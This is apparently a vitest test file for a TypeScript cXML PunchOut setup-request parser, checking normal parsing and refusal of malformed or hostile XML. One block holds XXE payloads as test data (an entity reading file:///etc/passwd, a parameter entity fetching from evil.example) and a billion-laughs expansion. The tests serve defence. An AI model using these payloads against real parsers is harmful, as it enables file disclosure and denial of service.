import { either as E } from 'fp-ts';
import { describe, expect, it } from 'vitest';
import { readSetup } from './read-setup.ts';
import { itemOut, setupDocument } from './testing/procurement.ts';

const read = (document: string | Uint8Array) => readSetup(Buffer.from(document));
const refused = (why: string) => E.left({ _tag: 'NotXml', why });
const broken = refused('expected well-formed XML in UTF-8');

describe('a setup request', () => {
  it('is read with the document type that it carries', () => {
    const items = itemOut('l-1', '2.00', 'L-1') + itemOut('L-2', '3');
    expect(read(setupDocument({ operation: 'edit', items, returnUrl: 'https://erp.example/r?a=1&b=2' }))).toEqual(
      E.right({
        ...{
          protocol: 'cxml',
          payloadId: '1@erp.example',
          from: [{ domain: 'DUNS', identity: '12345' }],
          sharedSecret: 'a secret',
        },
        ...{ to: { domain: 'DUNS', identity: 'torg' }, isTest: false, operation: 'edit', buyerCookie: 'cookie & 1' },
        returnUrl: 'https://erp.example/r?a=1&b=2',
        items: [
          { sku: 'L-1', quantity: '2' },
          { sku: 'L-2', quantity: '3' },
        ],
      }),
    );
  });

  it('that says nothing is read as such', () => {
    expect(read('<cXML><Request deploymentMode="test"><PunchOutSetupRequest/></Request></cXML>')).toEqual(
      E.right({
        ...{
          protocol: 'cxml',
          payloadId: '',
          from: [],
          sharedSecret: '',
          to: { domain: '', identity: '' },
          isTest: true,
        },
        ...{ operation: '', buyerCookie: '', returnUrl: '', items: [] },
      }),
    );
  });

  it('is told from other requests', () => {
    expect(read('<cXML><Request><OrderRequest/></Request></cXML>')).toEqual(
      E.left({ _tag: 'OtherRequest', name: 'OrderRequest' }),
    );
    expect(read('<cXML><Response/></cXML>')).toEqual(E.left({ _tag: 'OtherRequest', name: 'no Request' }));
    expect(read('<html></html>')).toEqual(refused('expected cXML'));
  });
});

describe('of a document by a stranger', () => {
  const declaring = (subset: string) => setupDocument({ prologue: `<!DOCTYPE cXML [${subset}]>`, secret: '&e;' });
  const declarations = refused('expected a document type without declarations');

  it.each([
    ['an external entity', '<!ENTITY e SYSTEM "file:///etc/passwd">'],
    ['an external entity of parameters', '<!ENTITY % e SYSTEM "https://evil.example/e.dtd"> %e;'],
    ['entities of entities (billion laughs)', '<!ENTITY a "lol"><!ENTITY e "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'],
    ['an empty list of declarations', ''],
  ])('%s is refused, and nothing of it is fetched', (_, subset) => {
    expect(read(declaring(subset))).toEqual(declarations);
  });

  it('an entity that the document type would declare elsewhere is refused', () => {
    expect(read(setupDocument({ secret: '&e;' }))).toEqual(broken);
  });

  it('a second document type is refused', () => {
    expect(read('<cXML><!DOCTYPE cXML SYSTEM "x"><Request/></cXML>')).toEqual(broken);
  });

  it.each([
    ['nothing', ''],
    ['JSON', '{}'],
    ['an element that is not closed', '<cXML><Request>'],
    ['another encoding than it says', Buffer.from('<cXML><Request>\u00e5</Request></cXML>', 'latin1')],
    ['UTF-16', Buffer.from('\ufeff<cXML/>', 'utf16le')],
  ])('%s is no XML', (_, document) => {
    expect(read(document)).toEqual(broken);
  });

  it('an encoding other than UTF-8 is refused', () => {
    expect(read('<?xml version="1.0" encoding="ISO-8859-1"?><cXML/>')).toEqual(refused('expected the encoding UTF-8'));
  });

  it.each([
    ['depth', `<cXML>${'<a>'.repeat(60)}${'</a>'.repeat(60)}</cXML>`],
    ['number', `<cXML>${'<a/>'.repeat(50_001)}</cXML>`],
  ])('elements beyond a %s are refused', (_, document) => {
    expect(read(document)).toEqual(refused('expected fewer elements'));
  });
});
